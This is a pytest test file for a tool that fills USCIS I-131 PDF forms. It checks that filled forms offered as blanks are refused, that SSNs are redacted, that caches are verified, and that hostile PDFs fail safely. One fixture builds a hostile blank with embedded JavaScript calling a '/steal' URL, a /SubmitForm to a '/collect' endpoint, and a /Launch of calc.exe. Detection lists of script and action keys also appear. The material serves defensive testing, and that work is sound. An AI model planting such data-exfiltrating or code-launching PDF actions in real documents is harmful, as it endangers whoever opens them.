"""Nothing formfill did not produce is trusted: blanks, caches and PDFs (issue 9, the PDF half).

- a filled form given as the blank is refused by fill, batch and forms add; verification catches a
  value in a field the plan did not write;
- no output carries scripts, automatic actions or XFA, and a blank's unexpected ones are reported;
- damaged, truncated or substituted cache files are discarded loudly and rebuilt; a page whose
  content stream does not decode fails verification;
- hostile PDFs end with exit 2 and one line on stderr, in bounded time and memory.
"""

from __future__ import annotations

import io
import json
import logging
import shutil
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

import formfill
from formfill.api import prepare, render
from formfill.blanks import expectations, load_blank
from formfill.errors import FormError, VerificationError
from formfill.fieldmap import for_form
from formfill.forms import open_blank
from formfill.pdf import readback as readback_mod
from formfill.pdf import verify as verify_mod
from formfill.pdf.blank import cache_dir, stray_fields
from formfill.pdf.printed import flatten
from formfill.pdf.writer import IncrementalUpdate
from tests.helpers import REPO, SAMPLES, assert_refused, long_profile
from tests.helpers import run_untrusted as cli
from tests.hostile_pdfs import BUILDERS

SAMPLE = SAMPLES / "advance-parole-i485.json"
FAMILY = "form1[0].P4[0].Part2_Line1_FamilyName[0]"
SSN = "form1[0].P5[0].#area[1].Part2_Line10_SSN[0]"
BAD_KEYS = {"/JavaScript", "/JS", "/OpenAction", "/AA", "/XFA"}
BAD_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData"}


def scripts_in(data: bytes) -> list[str]:
    """Every script, automatic action or XFA anywhere in the file: all objects, not only reachable ones."""
    reader = PdfReader(io.BytesIO(data))
    found: list[str] = []
    objects = [reader.trailer]
    for num in range(1, int(reader.trailer["/Size"])):  # type: ignore[call-overload]
        try:
            objects.append(reader.get_object(num))  # type: ignore[arg-type]
        except Exception:  # a free entry
            continue
    stack: list[Any] = list(objects)
    while stack:
        node = stack.pop()
        if isinstance(node, DictionaryObject):
            for key, value in node.items():
                if key in BAD_KEYS:
                    found.append(key)
                if key == "/S" and str(value) in BAD_ACTIONS:
                    found.append(str(value))
                if key == "/A" and isinstance(value.get_object(), DictionaryObject):
                    kind = str(value.get_object().get("/S", ""))
                    if kind and kind not in ("/URI", "/GoTo", "/Named"):
                        found.append(f"/A {kind}")
                if isinstance(value, DictionaryObject | ArrayObject):
                    stack.append(value)
        elif isinstance(node, ArrayObject):
            stack.extend(v for v in node if isinstance(v, DictionaryObject | ArrayObject))
    return found


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FORMFILL_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("FORMFILL_FORMS_DIR", raising=False)


@pytest.fixture(scope="module")
def filled_pdf(blank_plain: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A previous client's filled I-131: exactly what a paralegal might pick up by mistake as the blank."""
    out = tmp_path_factory.mktemp("filled") / "previous-client.pdf"
    formfill.fill(SAMPLE, form=blank_plain, output=out)
    return out


# --- the blank is a blank ------------------------------------------------------------------------


def test_the_real_blanks_hold_only_their_recorded_defaults(blank_plain: Path, blank_encrypted: Path) -> None:
    for path in (blank_plain, blank_encrypted):
        blank = open_blank(path)
        defaults = dict(for_form(blank).blank_defaults)
        assert len(defaults) == 15, "14 page barcodes and the state list's space"
        assert stray_fields(blank, defaults) == []


def test_fill_refuses_a_filled_form_as_blank(filled_pdf: Path, tmp_path: Path) -> None:
    out = tmp_path / "new-client.pdf"
    done = cli("fill", str(SAMPLES / "reentry-permit.json"), "--form", str(filled_pdf), "-o", str(out),
               home=tmp_path / "home")
    assert_refused(done, "looks like a filled form", str(filled_pdf))
    assert not out.exists()
    with pytest.raises(FormError, match="looks like a filled form"):
        formfill.fill(SAMPLES / "reentry-permit.json", form=filled_pdf)


def test_batch_refuses_a_filled_form_as_blank(filled_pdf: Path, tmp_path: Path) -> None:
    out_dir = tmp_path / "out"
    done = cli("batch", str(SAMPLES / "reentry-permit.json"), str(SAMPLES / "re-parole.json"), "-o", str(out_dir),
               "--form", str(filled_pdf), "--jobs", "1", home=tmp_path / "home")
    assert_refused(done, "looks like a filled form")
    assert not out_dir.exists() or not list(out_dir.glob("*.pdf"))


def test_forms_add_refuses_a_filled_form(filled_pdf: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    done = cli("forms", "add", str(filled_pdf), home=home)
    assert_refused(done, "looks like a filled form")
    assert not list(home.rglob("*.pdf"))


def test_a_blank_with_a_comment_or_stamp_is_refused(blank_encrypted: Path, tmp_path: Path) -> None:
    """Empty fields are not enough: a sticky note or stamp left by the last client's review is data too."""
    writer = PdfWriter(clone_from=PdfReader(blank_encrypted))
    note = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FreeText"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (300, 700, 560, 740)]),
        NameObject("/Contents"): TextStringObject("SSN on file: see last year's packet"),
        NameObject("/DA"): TextStringObject("/Helv 10 Tf 0 g"),
    })
    page = writer.pages[4]
    page[NameObject("/Annots")].get_object().append(writer._add_object(note))
    marked = tmp_path / "marked.pdf"
    with marked.open("wb") as fh:
        writer.write(fh)
    out = tmp_path / "out.pdf"
    done = cli("fill", str(SAMPLES / "reentry-permit.json"), "--form", str(marked), "-o", str(out),
               home=tmp_path / "home")
    assert_refused(done, "annotation(s) (FreeText)", str(marked))
    assert not out.exists() and "SSN on file" not in done.stderr
    assert_refused(cli("forms", "add", str(marked), home=tmp_path / "home"), "marked-up form")


def _with_changes(blank: Path, tmp_path: Path, field: str, changes: dict[str, Any]) -> Path:
    reader = PdfReader(blank)
    writer = PdfWriter(clone_from=reader)
    blank_form = load_blank(blank.read_bytes(), use_cache=False)
    obj = writer.get_object(blank_form.fields[field].ref.idnum)
    assert isinstance(obj, DictionaryObject)
    for key, value in changes.items():
        obj[NameObject(key)] = value
    path = tmp_path / "one-stray.pdf"
    with path.open("wb") as fh:
        writer.write(fh)
    return path


@pytest.mark.slow
def test_one_stray_value_or_checked_box_is_enough_to_refuse(blank_plain: Path, tmp_path: Path) -> None:
    stray_text = _with_changes(blank_plain, tmp_path, FAMILY, {"/V": TextStringObject("OLDCLIENT")})
    with pytest.raises(FormError, match=r"looks like a filled form.*Part2_Line1_FamilyName"):
        load_blank(stray_text.read_bytes(), "stray", use_cache=False)
    box = "form1[0].P5[0].Part2_Line8_Gender[1]"
    stray_box = _with_changes(blank_plain, tmp_path, box, {"/AS": NameObject("/M")})
    with pytest.raises(FormError, match="looks like a filled form"):
        load_blank(stray_box.read_bytes(), "stray box", use_cache=False)
    # Even a barcode changed to another value is not this edition's blank any more.
    barcode = "form1[0].#pageSet[0].Page1[2].PDF417BarCode1[0]"
    stray_code = _with_changes(blank_plain, tmp_path, barcode, {"/V": TextStringObject("I-131|01/20/25|3|X")})
    with pytest.raises(FormError, match="looks like a filled form"):
        load_blank(stray_code.read_bytes(), "stray barcode", use_cache=False)


def test_verification_catches_an_old_clients_value_even_without_the_blank_check(filled_pdf: Path) -> None:
    """The second line of defence: a filled 'blank' that got past the check still never verifies."""
    old = load_blank(filled_pdf.read_bytes(), "old", use_cache=False, pristine=False)
    assert old.fields[SSN].value, "the previous client's SSN is in the file"
    with pytest.raises(VerificationError) as err:
        formfill.fill(SAMPLES / "parole-in-place-military.json", form=old)  # a new client without an SSN
    messages = " ".join(p.message for p in err.value.problems)
    assert "although nothing was meant to be written there" in messages
    assert SSN in messages
    (ssn_problem,) = [p for p in err.value.problems if SSN in p.message]
    assert str(old.fields[SSN].value) not in str(ssn_problem), "an SSN never appears in a message"
    assert "[redacted]" in ssn_problem.message


@pytest.mark.parametrize("with_blank", [True, False], ids=["fast-path", "full-read"])
def test_verification_catches_a_value_injected_in_an_unwritten_field(sample: Any, blank_plain: Path,
                                                                     with_blank: bool) -> None:
    blank = open_blank(blank_plain)
    loaded = formfill.load_profile(sample("parole-in-place-military"))
    fmap, plan = prepare(loaded.profile, blank)
    assert SSN not in {p.assignment.field for p in plan.placed}, "this sample gives no SSN"
    data, sheets = render(blank, plan)
    assert verify_mod.verify_bytes(data, plan.field_values(), expectations(fmap), sheets, 14, blank).ok
    reader = load_blank(data, use_cache=False, pristine=False)
    upd = IncrementalUpdate(data, reader.reader.trailer)
    field = DictionaryObject(reader.fields[SSN].obj)
    field[NameObject("/V")] = TextStringObject("123456789")
    upd.replace(reader.fields[SSN].ref, field)
    tampered = upd.to_bytes()
    result = verify_mod.verify_bytes(tampered, plan.field_values(), expectations(fmap), sheets, 14,
                                     blank if with_blank else None)
    assert not result.ok
    assert any(SSN in p.message and "nothing was meant to be written" in p.message for p in result.problems)
    assert not any("123456789" in p.message for p in result.problems)


# --- outputs carry no scripts or actions ---------------------------------------------------------


@pytest.mark.slow
def test_the_authentic_blank_carries_adobe_scripts_and_no_output_does(blank_encrypted: Path, sample: Any) -> None:
    raw = blank_encrypted.read_bytes()
    reader = PdfReader(io.BytesIO(raw))
    reader.decrypt("")
    root = reader.trailer["/Root"]
    assert "/JavaScript" in root["/Names"], "the uscis.gov blank ships document JavaScript"  # type: ignore[index]
    blank = open_blank(blank_encrypted)
    assert blank.notes == [], "the known Adobe/XFA scripts are removed silently"
    assert scripts_in(blank.data) == []
    plain = formfill.fill(sample("advance-parole-i485"), form=blank)
    assert scripts_in(plain.data) == []
    long = formfill.fill(long_profile(sample("advance-parole-i485")), form=blank)
    assert long.continuation_sheets >= 1
    assert scripts_in(long.data) == []
    flat = formfill.fill(sample("advance-parole-i485"), form=blank, flatten=True)
    assert scripts_in(flat.data) == []
    assert scripts_in(flatten(long.data)) == []


def _action(kind: str, **extra: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in extra.items():
        action[NameObject(f"/{key}")] = value
    return action


def injected_blank(blank_plain: Path, tmp_path: Path) -> Path:
    """The real blank plus everything a hostile blank might carry to run code or send data."""
    writer = PdfWriter(clone_from=PdfReader(blank_plain))
    root = writer.root_object
    js = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://127.0.0.1/steal');"))
    root[NameObject("/OpenAction")] = writer._add_object(js)
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action("/JavaScript", JS=TextStringObject("1"))})
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("evil"),
                                                                 writer._add_object(_action("/JavaScript",
                                                                     JS=TextStringObject("2")))])})
    root[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(names)})
    page = writer.pages[1]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/Launch",
                                                                          F=TextStringObject("calc.exe"))})
    blank = load_blank(blank_plain.read_bytes(), use_cache=False)
    widget = writer.get_object(blank.fields[FAMILY].ref.idnum)
    assert isinstance(widget, DictionaryObject)
    widget[NameObject("/AA")] = DictionaryObject({NameObject("/K"): _action("/JavaScript",
                                                                            JS=TextStringObject("3"))})
    widget[NameObject("/A")] = _action("/SubmitForm", F=TextStringObject("http://127.0.0.1/collect"))
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(10), FloatObject(10)]),
        NameObject("/A"): _action("/ImportData", F=TextStringObject("data.fdf")),
    })
    annots = page.get("/Annots")
    annots = annots.get_object() if annots is not None else ArrayObject()
    annots.append(writer._add_object(link))
    page[NameObject("/Annots")] = annots
    # A link that stays useful but chains a script after itself.
    uri = _action("/URI", URI=TextStringObject("https://www.uscis.gov"), Next=_action("/JavaScript",
                                                                                     JS=TextStringObject("4")))
    link2 = DictionaryObject({**link, NameObject("/A"): uri})
    annots.append(writer._add_object(link2))
    writer._add_object(_action("/JavaScript", JS=TextStringObject("5")))  # an orphan nothing refers to
    path = tmp_path / "injected.pdf"
    with path.open("wb") as fh:
        writer.write(fh)
    assert len(scripts_in(path.read_bytes())) >= 8
    return path


@pytest.mark.slow
def test_a_blank_with_injected_actions_is_cleaned_and_the_removal_reported(blank_plain: Path, tmp_path: Path,
                                                                          sample: Any) -> None:
    path = injected_blank(blank_plain, tmp_path)
    out = tmp_path / "out.pdf"
    done = cli("fill", str(SAMPLE), "--form", str(path), "-o", str(out), "--json", home=tmp_path / "home")
    assert done.returncode == 0, done.stderr
    doc = json.loads(done.stdout)
    removal = [n for n in doc["notes"] if "script(s) or action(s)" in n]
    assert len(removal) == 1, doc["notes"]
    for what in ("/OpenAction on the document catalog", "/AA on the document catalog", "document JavaScript 'evil'",
                 "/AA (automatic actions) on a page", "/AA (automatic actions) on a form field",
                 "/SubmitForm action on a form field", "/ImportData action on an annotation",
                 "actions chained after a /URI action"):
        assert what in removal[0], (what, removal[0])
    assert scripts_in(out.read_bytes()) == []
    # The removal is reported again when the prepared blank comes from the cache.
    again = formfill.fill(sample("reentry-permit"), form=path, flatten=True)
    assert any("script(s) or action(s)" in n for n in again.notes)
    assert scripts_in(again.data) == []
    links = [a.get_object() for p in PdfReader(out).pages for a in p.get("/Annots", [])
             if str(a.get_object().get("/Subtype")) == "/Link"]
    kept = [a["/A"] for a in links if "/A" in a]
    assert any(str(k["/S"]) == "/URI" and "/Next" not in k for k in kept), "plain links stay"


# --- caches are checked, not trusted -------------------------------------------------------------


def _entry(raw: bytes) -> Path:
    blank = load_blank(raw, "first")
    (entry,) = cache_dir().glob(f"prepared-{blank.sha256}-*.pdf")
    assert entry.read_bytes() == blank.data
    return entry


def _flip_middle(data: bytes) -> bytes:
    mid = len(data) // 2
    return data[:mid] + bytes(b ^ 0x5A for b in data[mid : mid + 64]) + data[mid + 64 :]


@pytest.mark.parametrize("damage", ["flipped-in-the-middle", "truncated", "substituted", "record-damaged"])
def test_a_damaged_prepared_blank_is_discarded_loudly_and_rebuilt(
    blank_encrypted: Path, filled_pdf: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture, damage: str,
) -> None:
    monkeypatch.setenv("FORMFILL_CACHE_DIR", str(tmp_path / "cache"))
    raw = blank_encrypted.read_bytes()
    entry = _entry(raw)
    good = entry.read_bytes()
    if damage == "flipped-in-the-middle":
        entry.write_bytes(_flip_middle(good))
    elif damage == "truncated":
        entry.write_bytes(good[: len(good) - 1000])
    elif damage == "substituted":
        entry.write_bytes(filled_pdf.read_bytes())
    else:
        meta = entry.with_suffix(".json")
        meta.write_bytes(_flip_middle(meta.read_bytes()))
    with caplog.at_level(logging.WARNING, logger="formfill"):
        again = load_blank(raw, "again")
    assert again.data == good
    assert any("discarding the cached prepared blank" in r.getMessage() for r in caplog.records)
    assert entry.read_bytes() == good, "the entry is rebuilt"
    assert stray_fields(again, dict(for_form(again).blank_defaults)) == []


def test_a_damaged_verification_baseline_is_discarded_loudly(blank_plain: Path, sample: Any, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch,
                                                             caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setenv("FORMFILL_CACHE_DIR", str(tmp_path / "cache"))
    blank = load_blank(blank_plain.read_bytes(), "plain")
    readback_mod.forget_baselines()
    good = readback_mod.baseline(blank)
    (entry,) = cache_dir().glob("baseline-*.json")
    doc = json.loads(entry.read_text())
    # Turn one field's value into someone's name, keeping the file valid JSON: only the digest can tell.
    doc["body"] = doc["body"].replace('"value": ""', '"value": "OLDCLIENT"', 1)
    entry.write_text(json.dumps(doc))
    readback_mod.forget_baselines()
    with caplog.at_level(logging.WARNING, logger="formfill"):
        again = readback_mod.baseline(blank)
    assert any("discarding the cached verification baseline" in r.getMessage() for r in caplog.records)
    assert again == good
    assert "OLDCLIENT" not in entry.read_text()
    result = formfill.fill(sample("advance-parole-i485"), form=blank)
    assert result.verification.ok


def _damage_page_stream(data: bytes, page: int) -> bytes:
    reader = PdfReader(io.BytesIO(data))
    contents = reader.pages[page]["/Contents"]
    stream = (contents[0] if isinstance(contents, ArrayObject) else contents).get_object()
    raw = stream._data
    at = data.index(raw)
    return data[:at] + _flip_middle(raw) + data[at + len(raw) :]


def test_a_page_whose_content_does_not_decode_fails_verification(sample: Any, blank_plain: Path) -> None:
    blank = open_blank(blank_plain)
    loaded = formfill.load_profile(sample("advance-parole-i485"))
    fmap, plan = prepare(loaded.profile, blank)
    data, sheets = render(blank, plan)
    damaged = _damage_page_stream(data, 3)
    for with_blank in (blank, None):
        result = verify_mod.verify_bytes(damaged, plan.field_values(), expectations(fmap), sheets, 14, with_blank)
        assert not result.ok
        assert any("page 4: its content stream does not decode" in p.message for p in result.problems)
    # A blank with such a page is refused before anything is filled.
    with pytest.raises(FormError, match="damaged or malformed"):
        load_blank(_damage_page_stream(blank.data, 3), "damaged blank", use_cache=False)


# --- hostile PDFs fail fast and bounded ----------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(blank_plain: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {name: build(folder, blank_plain) for name, build in BUILDERS.items()}


EXPECTED = {"decompression-bomb": "decompresses to more than"}
PATHS = {
    "fill": ["fill", str(SAMPLE), "-o", "{out}", "--form", "{pdf}"],
    "fill --printed": ["fill", str(SAMPLE), "-o", "{out}", "--printed", "--form", "{pdf}"],
    "fill --flatten": ["fill", str(SAMPLE), "-o", "{out}", "--flatten", "--form", "{pdf}"],
    "forms add": ["forms", "add", "{pdf}"],
    "batch": ["batch", str(SAMPLE), "-o", "{outdir}", "--jobs", "1", "--form", "{pdf}"],
    "verify": ["verify", "{pdf}", "--profile", str(SAMPLE)],
    "verify --printed": ["verify", "{pdf}", "--profile", str(SAMPLE), "--printed"],
}


# Every path for the bomb; the paths that parse differently (pypdf, pdfium, forms add, verify) for the rest.
CASES = [("decompression-bomb", path) for path in PATHS] + [
    (case, path) for case in BUILDERS if case not in ("garbage-xref", "decompression-bomb")
    for path in ("fill", "fill --flatten", "forms add", "verify --printed")
]


@pytest.mark.parametrize(("case", "path"), CASES)
def test_a_hostile_pdf_ends_with_exit_2_and_one_line(hostile: dict[str, Path], tmp_path: Path, case: str,
                                                     path: str) -> None:
    out = tmp_path / "out.pdf"
    args = [a.format(pdf=hostile[case], out=out, outdir=tmp_path / "outdir") for a in PATHS[path]]
    done = cli(*args, home=tmp_path / "home")
    assert_refused(done, str(hostile[case]), EXPECTED.get(case, "could not be read"))
    assert not out.exists()


@pytest.mark.slow
def test_a_repairable_xref_is_repaired_for_a_blank_and_refused_for_verify(hostile: dict[str, Path],
                                                                         tmp_path: Path) -> None:
    """pypdf rebuilds a blank's broken xref (the prepared copy is then clean); verify reads as found."""
    out = tmp_path / "out.pdf"
    done = cli("fill", str(SAMPLE), "--form", str(hostile["garbage-xref"]), "-o", str(out), "--flatten",
               home=tmp_path / "home")
    assert done.returncode == 0, done.stderr
    assert scripts_in(out.read_bytes()) == []
    assert_refused(cli("verify", str(hostile["garbage-xref"]), "--profile", str(SAMPLE), home=tmp_path / "home"),
                   "could not be read back")


def test_a_filled_form_carrying_a_bomb_is_refused_by_verify(filled_pdf: Path, tmp_path: Path) -> None:
    from tests.hostile_pdfs import bomb

    path = bomb(tmp_path, filled_pdf, "filled-bomb.pdf")
    for extra in ([], ["--printed"]):
        done = cli("verify", str(path), "--profile", str(SAMPLE), *extra, home=tmp_path / "home")
        assert_refused(done, "decompresses to more than")


def test_an_oversized_file_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    big = tmp_path / "big.pdf"
    with big.open("wb") as fh:
        fh.write(b"%PDF-1.7\n")
        fh.truncate(65 * 2**20)
    assert_refused(cli("forms", "add", str(big), home=tmp_path / "home"), "larger than 64 MB")
    assert_refused(cli("verify", str(big), "--profile", str(SAMPLE), home=tmp_path / "home"), "larger than 64 MB")


def test_a_field_map_that_does_not_record_the_blanks_values_is_refused(blank_plain: Path, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the pristine values there is nothing to tell a blank from a filled form: say so, never guess."""
    shutil.copytree(REPO / "field_maps" / "i-131", tmp_path / "packages" / "i-131")
    fill_map = tmp_path / "packages" / "i-131" / "01-20-25.json"
    doc = json.loads(fill_map.read_text())
    del doc["blank_defaults"]
    fill_map.write_text(json.dumps(doc))
    monkeypatch.setenv("FORMFILL_PACKAGES_DIR", str(tmp_path / "packages"))
    with pytest.raises(FormError, match="does not record what the blank"):
        load_blank(blank_plain.read_bytes(), "plain")

